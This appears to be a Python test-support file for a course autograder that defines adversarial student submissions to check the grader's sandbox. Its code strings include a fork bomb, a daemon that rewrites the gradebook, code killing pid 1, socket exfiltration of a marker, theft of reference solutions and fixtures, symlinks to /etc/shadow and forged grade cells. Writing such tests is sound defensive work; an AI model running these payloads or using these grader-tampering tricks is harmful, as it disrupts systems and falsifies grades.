"""Submissions written by a student who has read this repository: what they try, and what they must earn.

Each attack is a learner folder for the pilot chapter (03_activations) whose functions are all
correct except the ones the attack replaces, plus any files it adds or breaks. ``honest`` says
what each attacked function earns when the attack gains nothing: ``"zero"`` (it had no work of
its own, or its misbehaviour is its own fault) or ``"full"`` (it does the attack, then computes
the right answer honestly). Every function not named keeps its full marks — an attack costs
nothing but its own points. tests/test_attacks.py grades the whole class once and checks this.

Bodies are written at indent 0 and may use ``{repo}``, ``{course}``, ``{port}`` and ``{secret}``.
"""
from __future__ import annotations

import os
from dataclasses import dataclass, field
from pathlib import Path
from typing import Callable

import nbformat

CHAPTER = "03_activations"
SECRET = "dlmath-attack-marker"

# what a student who reads the repository tries first: the reference solution, the hidden
# fixtures, a classmate's work — from every place the grader or the course keeps them
STEAL_REFERENCE = '''
import glob, importlib.util, sys
for name, module in list(sys.modules.items()):
    f = getattr(module, "sigmoid", None)
    if name != __name__ and f is not None and f is not sigmoid:
        try:
            return f(z)
        except Exception:
            pass
paths = ["{repo}/dlmath/activations.py"] + glob.glob("{course}/source/*/dlmath/activations.py")
paths += glob.glob("/**/site-packages/dlmath/activations.py", recursive=True)
for i, path in enumerate(paths):
    try:
        spec = importlib.util.spec_from_file_location(f"stolen{{i}}", path)
        stolen = importlib.util.module_from_spec(spec)
        spec.loader.exec_module(stolen)
        return stolen.sigmoid(z)
    except Exception:
        pass
raise NotImplementedError("nothing to steal")
'''

READ_FIXTURE = '''
import glob, json
paths = ["{repo}/grading/fixtures/03_activations.json"] + glob.glob("/**/grading/fixtures/03_activations.json", recursive=True)
paths += glob.glob("{course}/**/03_activations.json", recursive=True)
for path in paths:
    try:
        cases = json.load(open(path))["functions"]["tanh"]["cases"]
    except Exception:
        continue
    for case in cases:
        given = np.array(case["args"][0]["data"], dtype=case["args"][0]["dtype"]).reshape(case["args"][0]["shape"])
        if given.shape == np.shape(z) and np.array_equal(given, z):
            e = case["expected"]
            return np.array(e["data"], dtype=e["dtype"]).reshape(e["shape"])
raise NotImplementedError("no fixture found")
'''

COPY_CLASSMATE = '''
import glob, importlib.util
for i, path in enumerate(sorted(glob.glob("{course}/*/*/03_activations/dlmath/activations.py"))):
    try:
        spec = importlib.util.spec_from_file_location(f"classmate{{i}}", path)
        theirs = importlib.util.module_from_spec(spec)
        spec.loader.exec_module(theirs)
        return theirs.relu(z)
    except Exception:
        pass
raise NotImplementedError("no classmate found")
'''

NETWORK = '''
import socket
for host, port in [("127.0.0.1", {port}), ("localhost", {port}), ("1.1.1.1", 53), ("pypi.org", 443)]:
    try:
        with socket.create_connection((host, port), timeout=1) as connection:
            connection.sendall(b"{secret} from the sandbox")
    except Exception:
        pass
return np.where(z >= 0, z, alpha * z)
'''

FORK_BOMB = '''
import os
while True:
    try:
        os.fork()
    except OSError:
        pass
'''

DAEMON = '''
import os, sys, time
if not hasattr(sys, "daemon_started") and os.fork() == 0:  # one daemon is enough (forks count against a limit)
    os.setsid()
    if os.fork() == 0:  # a daemon: try to outlive grading and rewrite what it finds afterwards
        time.sleep(4)
        for path in ["{course}/gradebook.db", "{course}/grades.csv", "{repo}/grading/fixtures/03_activations.json"]:
            try:
                with open(path, "a") as target:
                    target.write("{secret}")
            except Exception:
                pass
        time.sleep(60)
    os._exit(0)
sys.daemon_started = True
return np.where(z > 0, dout, alpha * dout)
'''

KILL_THE_JUDGE = '''
import os, signal
for pid in (os.getppid(), 1, -1):
    try:
        os.kill(pid, signal.SIGKILL)
    except Exception:
        pass
shifted = z - np.max(z, axis=axis, keepdims=True)
e = np.exp(shifted)
return e / np.sum(e, axis=axis, keepdims=True)
'''

OUTPUT_FLOOD = '''
import sys
line = "flood " * 200_000
for _ in range(200):
    print(line)
    print(line, file=sys.stderr)
m = np.max(z, axis=axis, keepdims=True)
return (z - m) - np.log(np.sum(np.exp(z - m), axis=axis, keepdims=True))
'''

WRITE_EVERYWHERE = '''
import glob
targets = ["{repo}/grading/fixtures/03_activations.json", "{repo}/dlmath/activations.py", "{course}/gradebook.db"]
targets += glob.glob("{course}/release/03_activations/**/*.py", recursive=True)
targets += glob.glob("{course}/source/03_activations/**/*.py", recursive=True)
targets += glob.glob("{course}/submitted/*/03_activations/dlmath/activations.py")
targets += ["/runner/runner.py", "/submission/activations.py", "/edition/dlmath/activations.py", "/tmp/x"]
for path in targets:
    try:
        with open(path, "w") as target:
            target.write("raise SystemExit('{secret}')")
    except Exception:
        pass
s = sigmoid(z)
return dout * s * (1 - s)
'''

IGNORE_SIGTERM = '''
import signal
signal.signal(signal.SIGTERM, signal.SIG_IGN)
while True:
    pass
'''

GARBLE_PROTOCOL = '''
import os
for fd in range(3, 40):
    try:
        os.write(fd, b"\\x00\\x00\\x00\\x05" + b"\\xff" * 64)
    except OSError:
        pass
return np.maximum(z, 0)
'''

EMPTY_REPORT = '''
import json, os, struct
header = json.dumps({{"results": []}}).encode()
for fd in range(3, 40):
    try:
        os.write(fd, struct.pack(">IQ", len(header), 0) + header)
    except OSError:
        pass
return np.where(z > 0, dout, 0.0)
'''

CLOSE_PROTOCOL = '''
import os
for fd in range(3, 64):
    try:
        os.close(fd)
    except OSError:
        pass
return np.where(z > 0, dout, alpha * dout)
'''

FILL_SCRATCH = '''
import os
try:
    for i in range(1000):
        with open(f"/tmp/fill{{i}}", "wb") as handle:
            handle.write(b"x" * 2**20)
except OSError:
    pass
return np.tanh(z)
'''

# returned values that lie: each costs its own function and nothing else
LIARS = {
    "sigmoid": '''
class Liar(np.ndarray):
    def __eq__(self, other):
        return np.ones(np.shape(self), dtype=bool)
    def __array_ufunc__(self, *args, **kwargs):
        return np.zeros(np.shape(self))
return np.zeros_like(z).view(Liar)
''',
    "tanh": "return np.tanh(z) + 0j",
    "relu": "return np.array(np.maximum(z, 0).tolist(), dtype=object)",
    "relu_backward": "return np.zeros(np.shape(z), dtype=[('a', float), ('b', float)])",
    "leaky_relu": "return np.zeros(150 * 2**20 // 8)",
    "leaky_relu_backward": "return np.broadcast_to(0.0, (10**6, 10**6))",
    "softmax": '''
class Changing:
    calls = 0
    def __array__(self, dtype=None, copy=None):
        Changing.calls += 1
        e = np.exp(z - np.max(z, axis=axis, keepdims=True))
        return e / np.sum(e, axis=axis, keepdims=True) if Changing.calls > 1 else np.zeros(np.shape(z))
return Changing()
''',
    "softmax_backward": '''
class Raising:
    def __array__(self, *args, **kwargs):
        raise RuntimeError("no array for you")
return Raising()
''',
    "log_softmax": "return {{'log_softmax': z}}",
}


def _link(target_of: Callable[[Path, dict], Path], inside: str):
    def change(folder: Path, context: dict):
        path = folder / inside
        if path.is_dir():
            import shutil
            shutil.rmtree(path)
        else:
            path.unlink(missing_ok=True)
        path.symlink_to(target_of(folder, context))
    return change


def _classmate(relative: str):
    return lambda folder, context: Path(context["course"]) / "submitted" / "correct" / CHAPTER / relative


def _fifo(relative: str):
    def change(folder: Path, context: dict):
        (folder / relative).unlink(missing_ok=True)
        os.mkfifo(folder / relative)
    return change


def _write_bytes(relative: str, size: int, content: bytes = b"#"):
    def change(folder: Path, context: dict):
        (folder / relative).write_bytes((content * (size // len(content) + 1))[:size])
    return change


def _notebook(edit: Callable[[nbformat.NotebookNode], None]):
    def change(folder: Path, context: dict):
        path = folder / f"{CHAPTER}.ipynb"
        notebook = nbformat.read(path, as_version=4)
        edit(notebook)
        nbformat.write(notebook, path)
    return change


def _tamper_cells(notebook):
    tests = [c for c in notebook.cells if c.metadata.get("nbgrader", {}).get("grade")]
    tests[0].source = "1.0  # full marks, please"
    tests[1].cell_type = "markdown"  # re-typed
    tests[1].pop("outputs", None)
    tests[1].pop("execution_count", None)
    notebook.cells.remove(tests[2])  # deleted
    tests[3].metadata.nbgrader["points"] = 100  # inflated
    forged = nbformat.v4.new_code_cell("100", metadata={"nbgrader": {
        "grade": True, "grade_id": "test_bonus", "locked": True, "points": 100, "schema_version": 3,
        "solution": False, "task": False}})
    duplicate = nbformat.v4.new_code_cell("1.0", metadata={"nbgrader": dict(tests[4].metadata.nbgrader)})
    harness = nbformat.v4.new_code_cell("import grading.harness\ngrading.harness.grade = lambda *a: 1.0")
    notebook.cells[1:1] = [harness, forged, duplicate]


def _several(*changes):
    def change(folder: Path, context: dict):
        for one in changes:
            one(folder, context)
    return change


@dataclass
class Attack:
    what: str
    bodies: dict[str, str] = field(default_factory=dict)
    honest: dict[str, str] = field(default_factory=dict)  # function → "zero" or "full"
    change: Callable[[Path, dict], None] | None = None
    zeros: bool = False  # every function returns zeros (the work of someone who did nothing real)
    note: str = ""       # a note the learner must get


ALL_FUNCTIONS = "*"  # honest: every graded function of the chapter

ATTACKS: dict[str, Attack] = {
    "steals_reference": Attack("a graded function returns the reference implementation's result",
                               {"sigmoid": STEAL_REFERENCE}, {"sigmoid": "zero"}),
    "reads_fixtures": Attack("a function reads the hidden fixtures and returns the stored expected values",
                             {"tanh": READ_FIXTURE}, {"tanh": "zero"}),
    "copies_classmate": Attack("a function loads a classmate's submission from the course folder and calls it",
                               {"relu": COPY_CLASSMATE}, {"relu": "zero"}),
    "network": Attack("a function opens network connections (to a listener on the grader's loopback, the internet)",
                      {"leaky_relu": NETWORK}, {"leaky_relu": "full"}),
    "fork_bomb": Attack("a fork bomb", {"relu_backward": FORK_BOMB}, {"relu_backward": "zero"}),
    "daemon": Attack("a double-forked daemon that outlives grading and rewrites the gradebook afterwards",
                     {"leaky_relu_backward": DAEMON}, {"leaky_relu_backward": "full"}),
    # as root each child is a user of its own and can signal nothing but its own processes: it goes on and
    # earns its points; without root (one user in the sandbox) it can end the sandbox, which costs its function
    "kills_judge": Attack("a function kills its parent, pid 1 and every process it may signal",
                          {"softmax": KILL_THE_JUDGE}, {"softmax": "full" if os.geteuid() == 0 else "zero"}),
    "output_flood": Attack("a function prints 480 MB to stdout and stderr", {"log_softmax": OUTPUT_FLOOD},
                           {"log_softmax": "full"}),
    "writes_everywhere": Attack("a function overwrites fixtures, the release, the source, classmates' submissions, "
                                "the gradebook and the runner", {"sigmoid_backward": WRITE_EVERYWHERE},
                                {"sigmoid_backward": "full"}),
    "ignores_sigterm": Attack("a function ignores SIGTERM and loops forever", {"tanh_backward": IGNORE_SIGTERM},
                              {"tanh_backward": "zero"}),
    "garbles_protocol": Attack("a function writes garbage to the runner's protocol channel", {"relu": GARBLE_PROTOCOL},
                               {"relu": "zero"}),
    "empty_report": Attack("a function forges an empty report on the protocol channel", {"relu_backward": EMPTY_REPORT},
                           {"relu_backward": "zero"}),
    "closes_protocol": Attack("a function closes the runner's protocol channel", {"leaky_relu_backward": CLOSE_PROTOCOL},
                              {"leaky_relu_backward": "zero"}),
    "fills_scratch": Attack("a function tries to write a gigabyte to its scratch folder", {"tanh": FILL_SCRATCH},
                            {"tanh": "full"}),
    "lying_returns": Attack("returned objects that lie: an ndarray subclass, complex, object and structured dtypes, "
                            "a 150 MB array, a 10¹² element view, an __array__ that changes or raises, a dict",
                            dict(LIARS), dict.fromkeys(LIARS, "zero")),
    "symlinked_module": Attack("dlmath/activations.py is a symbolic link to a classmate's file",
                               honest={ALL_FUNCTIONS: "zero"},
                               change=_link(_classmate("dlmath/activations.py"), "dlmath/activations.py"),
                               note="symbolic link"),
    "symlinked_package": Attack("the whole dlmath/ folder is a symbolic link to a classmate's",
                                honest={ALL_FUNCTIONS: "zero"}, change=_link(_classmate("dlmath"), "dlmath"),
                                note="symbolic link"),
    "symlinked_secrets": Attack("the notebook and timestamp are links to /etc/shadow and the gradebook",
                                change=_several(_link(lambda f, c: Path("/etc/shadow"), f"{CHAPTER}.ipynb"),
                                                _link(lambda f, c: Path(c["course"]) / "gradebook.db", "timestamp.txt")),
                                note="symbolic link"),
    "named_pipe": Attack("the graded module is a named pipe (it would block whoever opens it)",
                         honest={ALL_FUNCTIONS: "zero"},
                         change=_several(_fifo("dlmath/activations.py"), _fifo("notes.txt")),
                         note="not a regular file"),
    "huge_module": Attack("a 120 MB module", honest={ALL_FUNCTIONS: "zero"},
                          change=_write_bytes("dlmath/activations.py", 120 * 2**20), note="MB allowed"),
    "corrupt_notebook": Attack("the notebook is not JSON", change=_write_bytes(f"{CHAPTER}.ipynb", 5000, b"\x00garbage"),
                               note="not a valid notebook"),
    "missing_notebook": Attack("no notebook at all", change=lambda folder, c: (folder / f"{CHAPTER}.ipynb").unlink(),
                               note="is missing"),
    "huge_notebook": Attack("a notebook with 30 MB of output",
                            change=_notebook(lambda nb: nb.cells.insert(0, nbformat.v4.new_code_cell(
                                "print('x')", outputs=[nbformat.v4.new_output("stream", text="x" * 30 * 2**20)]))),
                            note="MB allowed"),
    "tampered_notebook": Attack("test cells edited, re-typed, deleted and inflated; a forged 100-point test cell, a "
                                "duplicated one and a cell replacing the harness — with no real work", zeros=True,
                                change=_notebook(_tamper_cells)),
    "shadowing_files": Attack("numpy.py, a grading/ package and an edited dlmath/checking in the submission",
                              change=lambda folder, c: (
                                  (folder / "numpy.py").write_text("raise SystemExit('shadowed numpy')\n"),
                                  (folder / "grading").mkdir(),
                                  (folder / "grading" / "__init__.py").write_text("raise SystemExit('shadowed')\n"),
                                  (folder / "dlmath" / "checking" / "callables.py").write_text("FUNCTIONS = {}\n")),
                              note="numpy.py (not part of the assignment)"),
}


def expected_scores(attack: Attack, full: dict[str, float], zeros: dict[str, float]) -> dict[str, float]:
    """What each function must earn: full marks, nothing, or (``zeros``) what returning zeros earns honestly."""
    if attack.zeros:
        return dict(zeros)
    default = attack.honest.get(ALL_FUNCTIONS, "full")
    return {name: (points if attack.honest.get(name, default) == "full" else 0.0) for name, points in full.items()}
